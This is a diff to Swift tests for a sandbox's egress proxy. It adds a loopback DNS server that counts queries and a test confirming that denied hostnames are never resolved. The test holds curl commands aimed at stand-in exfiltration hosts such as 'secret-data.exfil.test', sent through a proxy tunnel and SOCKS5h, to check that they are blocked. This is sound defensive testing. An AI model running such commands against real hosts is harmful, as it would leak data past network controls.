@@ -55,6 +55,59 @@ struct EgressTests {
     }
 
     /// A profile file in the test's state directory (removed with it).
+    /// A DNS server on 127.0.0.1 (UDP) that records every name it is asked and answers 127.0.0.1.
+    final class CountingDNS: @unchecked Sendable {
+        let fd: Int32
+        let port: UInt16
+        private let lock = NSLock()
+        private var asked: [String] = []
+        var names: [String] { lock.withLock { asked } }
+
+        init() throws {
+            let sock = socket(AF_INET, Int32(SOCK_DGRAM.rawValue), 0)
+            fd = sock
+            var a = sockaddr_in()
+            a.sin_family = sa_family_t(AF_INET)
+            a.sin_addr.s_addr = UInt32(0x7F00_0001).bigEndian
+            var len = socklen_t(MemoryLayout<sockaddr_in>.size)
+            let ok = withUnsafeMutablePointer(to: &a) {
+                $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(sock, $0, len) == 0 && getsockname(sock, $0, &len) == 0 }
+            }
+            try #require(ok)
+            port = UInt16(bigEndian: a.sin_port)
+            Thread { [self] in
+                var buffer = [UInt8](repeating: 0, count: 1500)
+                while true {
+                    var from = sockaddr_storage()
+                    var fromLength = socklen_t(MemoryLayout<sockaddr_storage>.size)
+                    let n = withUnsafeMutablePointer(to: &from) {
+                        $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { recvfrom(sock, &buffer, buffer.count, 0, $0, &fromLength) }
+                    }
+                    if n <= 0 { return }
+                    let q = Array(buffer[0..<n])
+                    var labels: [String] = [], i = 12
+                    while i < q.count, q[i] != 0, i + 1 + Int(q[i]) <= q.count {
+                        labels.append(String(decoding: q[(i + 1)..<(i + 1 + Int(q[i]))], as: UTF8.self))
+                        i += 1 + Int(q[i])
+                    }
+                    lock.withLock { asked.append(labels.joined(separator: ".")) }
+                    guard i + 5 <= q.count else { continue }
+                    var r = Array(q[0..<(i + 5)])
+                    r[2] = 0x81; r[3] = 0x80; r[6] = 0; r[7] = 1
+                    r += [0xC0, 0x0C, 0, 1, 0, 1, 0, 0, 0, 0, 0, 4, 127, 0, 0, 1]
+                    _ = withUnsafePointer(to: &from) {
+                        $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { sendto(sock, r, r.count, 0, $0, fromLength) }
+                    }
+                }
+            }.start()
+        }
+
+        func stop() {
+            shutdown(fd, Int32(SHUT_RDWR))
+            close(fd)
+        }
+    }
+
     static func profile(_ json: String) throws -> String {
         let path = FileManager.default.temporaryDirectory.appendingPathComponent("stockade-egress-\(UUID().uuidString).json").path
         try Data(json.utf8).write(to: URL(fileURLWithPath: path))
@@ -182,6 +235,33 @@ struct EgressTests {
         #expect(upstream.connections == 1)
         let denied = try auditEvents(h).filter { $0["kind"] as? String == "egress.denied" }
         #expect(denied.count == 1 && (denied.first?["detail"] as? [String: Any])?["host"] as? String == "denied.test")
+    }
+
+    @Test("a denied name never reaches the DNS server; an admitted one is asked once and fetched")
+    func deniedNamesAreNeverResolved() throws {
+        let upstream = try Upstream(body: "resolved")
+        defer { upstream.stop() }
+        let dns = try CountingDNS()
+        defer { dns.stop() }
+        let h = try Harness()
+        // No pinned names: every address comes from the counting server.
+        let p = try Self.profile("""
+            {"extends": "default", "network": {"mode": "proxy", "egress": {"allow": ["allowed.test:\(upstream.port)"],
+              "allowPrivate": true, "resolver": "127.0.0.1:\(dns.port)"}}}
+            """)
+        defer { try? FileManager.default.removeItem(atPath: p) }
+        let r = try h.run(["--profile", p], ["/bin/sh", "-c", """
+            \(Self.curl("--proxytunnel http://secret-data.exfil.test:\(upstream.port)/"))
+            \(Self.curl("--proxy socks5h://127.0.0.1:3128 http://more-secret-data.exfil.test:\(upstream.port)/"))
+            \(Self.curl("http://allowed.test:\(upstream.port + 1)/"))
+            \(Self.curl("http://allowed.test:\(upstream.port)/"))
+            """])
+        let out = try r.report().string("stdout") ?? ""
+        #expect(out.contains("resolved code=200"), "\(out) \(r.stderr)")
+        #expect(dns.names == ["allowed.test"], "the DNS server was asked: \(dns.names)")
+        let denied = try auditEvents(h).filter { $0["kind"] as? String == "egress.denied" }
+            .compactMap { ($0["detail"] as? [String: Any])?["host"] as? String }
+        #expect(denied == ["secret-data.exfil.test", "more-secret-data.exfil.test", "allowed.test"], "\(denied)")
     }
 
     @Test("a name pinned to loopback is refused without allowPrivate")
